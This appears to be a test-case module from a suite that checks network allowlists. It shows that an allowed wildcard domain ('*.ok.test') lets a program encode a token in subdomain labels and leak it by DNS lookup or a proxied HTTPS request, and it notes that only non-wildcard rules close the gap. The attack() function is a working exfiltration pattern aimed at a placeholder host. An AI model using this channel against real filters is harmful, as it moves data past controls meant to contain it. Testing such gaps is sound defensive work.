# SPDX-License-Identifier: Apache-2.0
"""An allowed wildcard: the owner of its name servers sees every name that is asked for."""
import socket

from bypass import get

TITLE = "labels below an allowed wildcard"
THREAT = "14"
ALLOW = ["*.ok.test"]
NEEDS = ["wildcard"]
FAMILIES = "4"
RESIDUAL = ("the names below a wildcard are chosen by the program and seen by the owner of the domain; only a rule without "
            "a wildcard closes it")


def attack(c):
    with c.step("a name below") as token:
        if c.proxy:
            with c.tls(c.dial(f"{token}.ok.test", 443), f"{token}.ok.test") as s:
                c.talk(s, get(f"{token}.ok.test", "/"))
        else:
            socket.getaddrinfo(f"{token}.ok.test", 80)
